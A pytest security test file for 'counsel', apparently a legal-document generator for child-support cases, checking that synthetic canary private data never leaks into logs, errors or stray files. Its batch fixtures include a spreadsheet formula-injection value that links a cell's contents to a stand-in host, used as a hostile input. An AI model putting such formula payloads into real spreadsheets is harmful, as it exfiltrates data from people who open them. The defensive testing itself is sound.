"""No private value in logs, error messages, tracebacks or reports: every interview check,
render and batch (good and failing, with a crash injected in the renderer) runs on canary
answers; stdout, stderr, every log record and every file counsel wrote outside its documents
are scanned. Allowed to hold the values by design: the PDF/DOCX documents themselves, drafts
and the register (private files, 0600, see test_permissions.py)."""

from __future__ import annotations

import csv
import json
import logging
import os
import sqlite3
import tempfile
import traceback
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from counsel.cli import main
from tests.security import canary, helpers, tally

OFFICE = helpers.OFFICE_FILE
ALLOWED_SUFFIXES = (".pdf", ".docx")
ALLOWED_DATA = ("register.sqlite3", "register.sqlite3-wal", "register.sqlite3-shm")


@dataclass
class Sandbox:
    root: Path
    inputs: Path
    work: Path
    data: Path
    tmp: Path
    captured: list[str] = field(default_factory=list)

    def run(self, argv: list[str], capsys: pytest.CaptureFixture[str]) -> int:
        """counsel's main() in-process; what it printed (and any traceback) is kept."""
        try:
            code = main(argv)
        except SystemExit as exc:
            code = int(exc.code or 0)
        except BaseException:
            # What the interpreter would print if this escaped main().
            self.captured.append(traceback.format_exc())
            code = -1
        out, err = capsys.readouterr()
        self.captured += [out, err]
        return code

    def leaks(self, caplog: pytest.LogCaptureFixture) -> list[str]:
        """Canary hits in output, logs and every file outside documents/drafts/register."""
        found = [f"output: {h}" for text in self.captured for h in canary.hits(text)]
        found += [f"log: {h}" for r in caplog.records for h in canary.hits(r.getMessage())]
        for path in sorted(self.root.rglob("*")):
            if not path.is_file() or path.is_relative_to(self.inputs):
                continue
            if path.suffix in ALLOWED_SUFFIXES and ".tmp" not in path.name:
                continue
            if path.is_relative_to(self.data) and (
                path.name in ALLOWED_DATA or path.parent.name in ("drafts", "done")
            ):
                continue
            found += [f"{path.relative_to(self.root)}: {h}" for h in canary.file_hits(path)]
        return found


@pytest.fixture
def sandbox(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> Iterator[Sandbox]:
    box = Sandbox(
        tmp_path, tmp_path / "inputs", tmp_path / "work", tmp_path / "data", tmp_path / "tmp"
    )
    for folder in (box.inputs, box.work, box.tmp):
        folder.mkdir()
    monkeypatch.setenv("COUNSEL_DATA_DIR", str(box.data))
    monkeypatch.setenv("TMPDIR", str(box.tmp))
    monkeypatch.setattr(tempfile, "tempdir", str(box.tmp))
    monkeypatch.chdir(box.work)
    caplog.set_level(logging.DEBUG)
    yield box


def _answers_file(box: Sandbox, name: str, **changes: Any) -> tuple[str, Path]:
    interview_id, raw = helpers.example(name)
    raw = {**canary.canaried(raw), **changes}
    path = box.inputs / f"{name}-{len(list(box.inputs.iterdir()))}.toml"
    return interview_id, canary.write_answers(path, interview_id, raw)


def test_canaries_reach_every_example() -> None:
    """Control: each example holds at least three canaried values, and the scanner sees them."""
    for path in helpers.example_files():
        _, raw = helpers.example(path.stem)
        changed = [k for k, v in canary.canaried(raw).items() if v != raw[k]]
        assert len(changed) >= 3, path.stem
        assert canary.hits(repr(canary.canaried(raw)))


def test_check_and_render_every_example(
    sandbox: Sandbox, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    for path in helpers.example_files():
        interview_id, answers = _answers_file(sandbox, path.stem)
        tally.attack()
        assert (
            sandbox.run(
                ["--office", OFFICE, "check", interview_id, "--answers", str(answers), "--json"],
                capsys,
            )
            == 0
        )
        out = sandbox.work / "out" / path.stem
        code = sandbox.run(
            helpers.render_argv(interview_id, answers, out, "--json"),
            capsys,
        )
        assert code == 0, sandbox.captured[-1]
        # Control: the documents do carry the canaries (so the scan could see them).
        assert any(canary.hits(helpers.docx_text(p.read_bytes())) for p in out.glob("*.docx"))
    # The register's reports (list, show, verify) name cases and files, not answers.
    for argv in (
        ["register", "list", "--json"],
        ["register", "show", "1", "--json"],
        ["register", "verify", "1"],
    ):
        assert sandbox.run(["--office", OFFICE, *argv], capsys) == 0, sandbox.captured[-2:]
    assert sandbox.leaks(caplog) == []
    # The register holds the answers (by design) and is private.
    register = sandbox.data / "register.sqlite3"
    assert register.stat().st_mode & 0o777 == 0o600
    with sqlite3.connect(register) as conn:
        assert conn.execute("SELECT count(*) FROM issue").fetchone()[0] == len(
            helpers.example_files()
        )


BAD_VALUES = [
    ("obligor_birth_date", "Canary 1961-07-13"),
    ("obligor_birth_date", "13/07/1961"),
    ("obligor_ssn", "Canary-900-31-7931"),
    ("obligor_ssn", "900-31-79311"),
    ("obligor_name", ""),
    ("document_date", "1961-07-13 Canary"),
    ("family_violence", "Canary"),
    ("children", [{"name": "Canarykid", "birth_date": "July 13, 1961 Canary"}]),
]
BAD_BY_INTERVIEW = {
    "lien-account": [
        ("past_due_amount", "$Canary1,2x"),
        ("account_last4", "Canary7931"),
        ("lien_target", "Canary"),
        ("account_balance", "-900317931"),
    ],
    "prior-period-administrative": [
        ("segments", [{"start_date": "1961-07-13", "end_date": "Canary", "monthly_amount": "x"}])
    ],
    "registration": [("arrears_amount", "Canary"), ("service_date", "1961-02-30")],
}


def _bad_cases() -> list[tuple[str, str, Any]]:
    cases = [("track-judicial", f, v) for f, v in BAD_VALUES if f != "children"]
    cases += [("registration", f, v) for f, v in BAD_VALUES]
    cases += [(name, f, v) for name, bad in BAD_BY_INTERVIEW.items() for f, v in bad]
    return cases


@pytest.mark.parametrize(("example", "field_id", "value"), _bad_cases())
def test_failing_check_and_render_name_the_field_not_the_value(
    sandbox: Sandbox,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
    example: str,
    field_id: str,
    value: Any,
) -> None:
    tally.attack()
    interview_id, answers = _answers_file(sandbox, example, **{field_id: value})
    code = sandbox.run(
        ["--office", OFFICE, "check", interview_id, "--answers", str(answers)], capsys
    )
    assert code in (1, 2), sandbox.captured
    out = sandbox.work / "out"
    code = sandbox.run(
        ["--office", OFFICE, "render", interview_id, "--answers", str(answers), "--out", str(out)],
        capsys,
    )
    assert code in (1, 2), sandbox.captured
    assert not out.exists() or not any(out.iterdir())
    assert sandbox.leaks(caplog) == []


def test_rule_138_refusal_message_is_clean(
    sandbox: Sandbox, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    tally.attack()
    interview_id, answers = _answers_file(
        sandbox, "track-judicial", obligor_name=f"Canary {canary.CANARY_SSN}"
    )
    out = sandbox.work / "out"
    code = sandbox.run(
        ["--office", OFFICE, "render", interview_id, "--answers", str(answers), "--out", str(out)],
        capsys,
    )
    assert code == 2 and "138" in sandbox.captured[-1]
    assert sandbox.leaks(caplog) == []


def test_unreadable_answers_file_is_not_quoted(
    sandbox: Sandbox, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    tally.attack(2)
    bad = sandbox.inputs / "bad.toml"
    bad.write_text('interview = "track"\nobligor_name = "Canary Zq\nobligor_ssn = 900-31-7931\n')
    assert sandbox.run(["--office", OFFICE, "check", "track", "--answers", str(bad)], capsys) == 2
    bad.write_bytes(b'interview = "track"\nobligor_name = "Canary \xff\xfe"\n')
    assert sandbox.run(["--office", OFFICE, "check", "track", "--answers", str(bad)], capsys) == 2
    assert sandbox.leaks(caplog) == []


@pytest.mark.parametrize("where", ["pdf", "docx", "build"])
def test_a_crash_in_the_renderer_leaks_nothing_and_leaves_no_file(
    sandbox: Sandbox,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
    where: str,
) -> None:
    """The injected error's message quotes a private value, as a library error might
    ("invalid literal for int(): 'Canary...'"): counsel must not print it."""
    from counsel.render.core import Renderer

    tally.attack()
    interview_id, answers = _answers_file(sandbox, "registration")

    def crash(*args: Any, **kwargs: Any) -> Any:
        raise ValueError(
            f"invalid literal for int() with base 10: {canary._text('obligor_name')!r}"
        )

    target = {"pdf": "to_pdf", "docx": "to_docx", "build": "_build_one"}[where]
    monkeypatch.setattr(Renderer, target, crash)
    out = sandbox.work / "out"
    code = sandbox.run(
        helpers.render_argv(interview_id, answers, out),
        capsys,
    )
    assert code not in (0, -1), "the crash escaped main() as a traceback"
    assert "internal error" in sandbox.captured[-1]
    assert not out.exists() or list(out.iterdir()) == []
    assert sandbox.leaks(caplog) == []
    register = sandbox.data / "register.sqlite3"
    if register.exists():
        with sqlite3.connect(register) as conn:
            assert conn.execute("SELECT count(*) FROM issue").fetchone()[0] == 0


def _batch_sheet(box: Sandbox, extra_rows: list[dict[str, str]]) -> Path:
    """The example lien sheet's first rows with canaries, plus the given bad rows."""
    source = helpers.EXAMPLES / "batch" / "liens.csv"
    with source.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    header = list(rows[0])
    good = []
    for n, row in enumerate(rows[:3], start=1):
        row = dict(row)
        row["obligor_name"] = f"Canary Batchname{n} Zq"
        row["obligor_address"] = f"{n} Canary Batch Way\nCanaryville, IL 62999"
        row["obligor_ssn"] = f"900-31-{7931 + n}"  # 900-31-793x: matched by the SSN pattern
        row["obligor_birth_date"] = "1961-07-13"
        good.append(row)
    sheet = box.inputs / f"sheet-{len(list(box.inputs.iterdir()))}.csv"
    with sheet.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, header)
        writer.writeheader()
        writer.writerows(good)
        for bad in extra_rows:
            writer.writerow({**good[0], "iv_d_case_number": f"IVD-BAD-{len(bad)}-{id(bad)}", **bad})
    return sheet


BAD_ROWS = [
    {"obligor_birth_date": "Canary-07-13"},
    {"past_due_amount": "$Canary,900"},
    {"obligor_ssn": "Canary-900-31-7931"},
    {"mailing_date": "1961-02-30"},
    {"lien_target": "Canary"},
    {"account_balance": "12.5.1 Canary"},
    {"obligor_name": '=HYPERLINK("http://x/"&A1,"Canary")'},
    {"past_due_amount": "10.00"},  # below the lien threshold: refused by the law, not the sheet
]


def test_batch_with_bad_rows_reports_fields_not_values(
    sandbox: Sandbox, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    tally.attack(len(BAD_ROWS) + 3)
    sheet = _batch_sheet(sandbox, BAD_ROWS)
    out = sandbox.work / "batch-out"
    code = sandbox.run(
        helpers.batch_argv(sheet, out, "both", "--json"),
        capsys,
    )
    assert code == 1, sandbox.captured
    errors = (out / "errors.csv").read_text("utf-8")
    assert errors.count("\n") >= len(BAD_ROWS)  # every bad row is reported
    assert (out / "manifest.jsonl").read_text("utf-8").count("\n") == 3
    assert sandbox.leaks(caplog) == []


def test_batch_crash_in_the_renderer_costs_one_row_and_leaks_nothing(
    sandbox: Sandbox,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from counsel.render.core import Renderer

    tally.attack()
    real = Renderer.build
    calls = {"n": 0}

    def crash_on_second(*args: Any, **kwargs: Any) -> Any:
        calls["n"] += 1
        if calls["n"] == 2:
            raise ValueError(f"could not convert {canary._text('obligor_name')!r}")
        return real(*args, **kwargs)

    monkeypatch.setattr(Renderer, "build", crash_on_second)
    sheet = _batch_sheet(sandbox, [])
    out = sandbox.work / "batch-out"
    code = sandbox.run(
        helpers.batch_argv(sheet, out, "pdf"),
        capsys,
    )
    assert code == 1, sandbox.captured
    assert sandbox.leaks(caplog) == []
    assert not [p for p in out.iterdir() if p.name.endswith(".tmp")]
    # The crash cost its row only: reported by class name, the other rows complete.
    with (out / "errors.csv").open(encoding="utf-8-sig", newline="") as fh:
        errors = list(csv.DictReader(fh))
    assert len(errors) == 1 and "ValueError" in str(errors[0])
    lines = (out / "manifest.jsonl").read_text("utf-8").splitlines()
    assert len(lines) == 2
    files = [f for line in lines for f in json.loads(line)["files"] if f["format"] == "pdf"]
    assert sorted(p.name for p in out.glob("*.pdf")) == sorted(f["name"] for f in files)
    assert os.stat(out).st_mode & 0o777 == 0o700


@pytest.mark.parametrize(
    "source",
    [
        "<p>{{ {'a': 1}[obligor_name] }}</p>",
        "<p>{{ {'a': {}}[obligor_name].x }}</p>",
        "<p>{{ obligor_name|money }}</p>",
        "<p>{{ obligor_name|long_date }}</p>",
        "<p>{{ missing_answer }}</p>",
    ],
)
def test_template_errors_on_answers_do_not_quote_them(source: str) -> None:
    """A template bug met while rendering an answer is a RenderError that never quotes it."""
    from counsel.render import RenderError
    from counsel.render.core import DocumentSpec, Renderer

    tally.attack()
    interview_id, raw = helpers.example("track-judicial")
    answers = helpers.typed(interview_id, canary.canaried(raw))
    spec = DocumentSpec(
        interview=interview_id, id="t", template="zz-test.html", title="T", name="t"
    )
    renderer = Renderer(manifest={interview_id: (spec,)})
    renderer.loader._cache["zz-test.html"] = source  # a template only this test can see
    with pytest.raises(RenderError) as info:
        renderer.build(interview_id, answers, helpers.office())
    assert canary.hits(str(info.value)) == []
    assert "zz-test.html" in str(info.value)
    if "missing_answer" in source:  # a missing name is still named for the author
        assert "missing_answer" in str(info.value)
